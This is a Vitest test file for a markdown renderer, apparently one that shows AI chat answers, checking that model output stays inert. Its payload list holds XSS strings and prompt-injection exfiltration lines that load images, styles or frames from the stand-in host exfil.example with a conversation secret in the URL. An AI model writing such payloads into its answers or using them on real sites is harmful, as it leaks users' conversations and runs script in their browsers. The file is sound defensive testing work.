// @vitest-environment jsdom
import { beforeAll, describe, expect, it } from 'vitest';
import { ALLOWED_ATTR, ALLOWED_TAGS, loadMarkdownRenderer, type MarkdownRenderer } from './renderMarkdown';
import { splitBlocks } from './splitBlocks';

let render: MarkdownRenderer;
beforeAll(async () => {
  render = await loadMarkdownRenderer();
});

const HOST = 'exfil.example';
const SECRET = 'conversation=SECRET';

/** Answers a prompt-injected model could write, by family. Each must render inert. */
const PAYLOADS: Record<string, string[]> = {
  'overlay (style, class, positioning)': [
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Session expired — paste your API key</div>',
    '<div class="fixed inset-0 z-50 bg-white">Session expired</div>',
    '<p id="root" class="absolute top-0">x</p>',
    '<span style="display:block;position:absolute;top:0;left:0;width:100vw;height:100vh">cover</span>',
    '<marquee>moving</marquee><blink>x</blink>',
    '<dialog open>modal</dialog>',
    '<details open style="position:fixed">x</details>',
  ],
  'script and event handlers': [
    '<script>alert(1)</script>',
    '<img src=x onerror="alert(1)">',
    '<svg onload=alert(1)><circle r=5></svg>',
    '<body onload=alert(1)>',
    '<a href="#" onclick="alert(1)">click</a>',
    '<div onmouseover="alert(1)">hover</div>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
  ],
  'dangerous links': [
    '[a](javascript:alert(1))',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<form action="https://exfil.example/"><button>Go</button></form>',
    '<button formaction="https://exfil.example/">x</button>',
  ],
  'remote fetches (prompt-injection exfiltration)': [
    `<img src="https://${HOST}/p?${SECRET}">`,
    `![x](https://${HOST}/p?${SECRET})`,
    `![x][r]\n\n[r]: https://${HOST}/ref?${SECRET}`,
    `<img srcset="https://${HOST}/a.png 1x, https://${HOST}/b.png 2x">`,
    `<picture><source srcset="https://${HOST}/p.png"><img src="data:image/png;base64,AAAA"></picture>`,
    `<video poster="https://${HOST}/poster.png" src="https://${HOST}/v.mp4"></video>`,
    `<audio src="https://${HOST}/a.mp3" autoplay></audio>`,
    `<input type="image" src="https://${HOST}/i.png">`,
    `<table background="https://${HOST}/t.png"><tr><td>x</td></tr></table>`,
    `<div style="background:url(https://${HOST}/css.png)">x</div>`,
    `<style>@import url(https://${HOST}/s.css); body{background:url(https://${HOST}/b.png)}</style>`,
    `<link rel="stylesheet" href="https://${HOST}/l.css">`,
    `<link rel="prefetch" href="https://${HOST}/pf">`,
    `<object data="https://${HOST}/o.swf"></object><embed src="https://${HOST}/e.swf">`,
    `<iframe src="https://${HOST}/f"></iframe>`,
    `<svg><image href="https://${HOST}/svg.png"></image></svg>`,
    // The HTML parser reads a bare <image> as <img>: no "img" in the text, an image in the tree.
    `<image src="https://${HOST}/bare-image.png">`,
    `<svg><use xlink:href="https://${HOST}/s.svg#x"></use></svg>`,
    `<meta http-equiv="refresh" content="0;url=https://${HOST}/">`,
    `<base href="https://${HOST}/">`,
    `<a ping="https://${HOST}/ping" href="https://ok.example/">link</a>`,
    `<img src="//${HOST}/proto-relative.png">`,
  ],
};

const allPayloads = Object.entries(PAYLOADS).flatMap(([family, list]) =>
  list.map((p) => [family, p] as const),
);

// SPAN: the renderer's own placeholder for an image it did not load (text only).
const allowedTags = new Set([...ALLOWED_TAGS.map((t) => t.toUpperCase()), 'SPAN']);
/** Attributes the renderer itself adds to links. */
const allowedAttrs = new Set([...ALLOWED_ATTR, 'target', 'rel', 'referrerpolicy']);

/** Every way the output could misbehave, as a list of findings (empty: inert). */
function findings(html: string): string[] {
  const container = document.createElement('div');
  container.innerHTML = html;
  const found: string[] = [];
  for (const element of container.querySelectorAll('*')) {
    if (!allowedTags.has(element.tagName)) found.push(`tag ${element.tagName}`);
    for (const attr of element.attributes) {
      if (!allowedAttrs.has(attr.name)) found.push(`attribute ${attr.name} on ${element.tagName}`);
      if (/^\s*(javascript|vbscript|data:text)/i.test(attr.value)) found.push(`${attr.name}=${attr.value}`);
    }
    const src = element.getAttribute('src');
    if (src !== null && !/^data:image\//.test(src) && !src.startsWith('blob:')) found.push(`src ${src}`);
  }
  if (html.includes(HOST) && !/from exfil\.example, not loaded/.test(html) && /src=|href=/.test(html)) {
    // A link the user may click is fine; anything that would load by itself is not.
    const container2 = document.createElement('div');
    container2.innerHTML = html;
    for (const el of container2.querySelectorAll('[src]')) found.push(`loads ${el.getAttribute('src')}`);
  }
  return found;
}

describe('renderMarkdown: answers are inert', () => {
  it.each(allPayloads)('%s: %s', (_family, payload) => {
    expect(findings(render(payload).html)).toEqual([]);
  });

  it('every remote image becomes a placeholder naming its host, and is reported as blocked', () => {
    const { html, blockedImages } = render(
      `Look: ![chart](https://${HOST}/c.png?${SECRET}) and <img src="https://${HOST}/x.png" alt="x">`,
    );
    expect(html).toContain('[image: chart — from exfil.example, not loaded]');
    expect(html).not.toContain(SECRET);
    expect(blockedImages).toEqual([`https://${HOST}/c.png?${SECRET}`, `https://${HOST}/x.png`]);
  });

  it('an image tag the parser renames (<image> → <img>) is blocked too, although the text never says img', () => {
    const { html, blockedImages } = render(`Plain words. <image src="https://${HOST}/p.png?${SECRET}">`);
    expect(html).not.toContain(SECRET);
    expect(html).toContain('from exfil.example, not loaded');
    expect(blockedImages).toEqual([`https://${HOST}/p.png?${SECRET}`]);
  });

  it('shows an image the user loaded from its local copy, and inline data images as they are', () => {
    const url = `https://${HOST}/c.png`;
    const { html, blockedImages } = render(`![c](${url})`, new Map([[url, 'blob:http://localhost/1']]));
    expect(html).toContain('src="blob:http://localhost/1"');
    expect(blockedImages).toEqual([]);
    expect(render('![d](data:image/png;base64,iVBORw0KGgo=)').html).toContain('src="data:image/png;base64,');
  });

  it('keeps ordinary markdown: headings, emphasis, lists, tables, code, links that open elsewhere', () => {
    const { html } = render(
      '# Hi\n\n**bold** _it_ `code`\n\n- a\n- b\n\n| x | y |\n|:--|--:|\n| 1 | 2 |\n\n```js\nlet a = 1;\n```\n\n[site](https://ok.example/)',
    );
    expect(html).toContain('<h1>Hi</h1>');
    expect(html).toContain('<strong>bold</strong>');
    expect(html).toContain('<td align="left">1</td>');
    expect(html).toContain('<pre><code>let a = 1;');
    expect(html).toContain('href="https://ok.example/"');
    expect(html).toContain('rel="noopener noreferrer nofollow"');
    expect(findings(html)).toEqual([]);
  });

  // A streamed answer is rendered again at every frame, block by block; a payload split at any point must be as
  // inert in every intermediate state as when complete.
  it.each([1, 3, 7])(
    'stays inert at every prefix when streamed %i characters at a time',
    (step) => {
      const answer = allPayloads.map(([, payload]) => payload).join('\n\n');
      const problems: string[] = [];
      for (let end = step; end < answer.length + step; end += step) {
        // Only the last block changes between frames (the view keeps finished blocks' HTML), so it is the one to
        // render at each prefix; every finished block was the last block, in its final form, at an earlier one.
        const last = splitBlocks(answer.slice(0, end)).at(-1);
        if (last === undefined) continue;
        for (const finding of findings(render(last).html)) problems.push(`at ${end}: ${finding}`);
      }
      expect(problems).toEqual([]);
    },
    120_000,
  );
});
